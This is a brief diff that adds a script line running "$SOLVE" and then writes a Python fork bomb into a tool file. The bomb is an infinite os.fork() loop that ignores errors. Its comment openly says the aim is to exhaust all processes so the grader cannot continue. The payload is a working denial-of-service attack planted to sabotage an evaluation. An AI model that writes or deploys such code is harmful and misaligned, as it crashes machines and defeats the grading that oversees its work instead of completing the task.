@@ -1,0 +1,10 @@
+# Delivers a program that uses up all processes, so that the grader can't go on.
+bash "$SOLVE"
+cat > "$TOOL" <<'PY'
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+PY
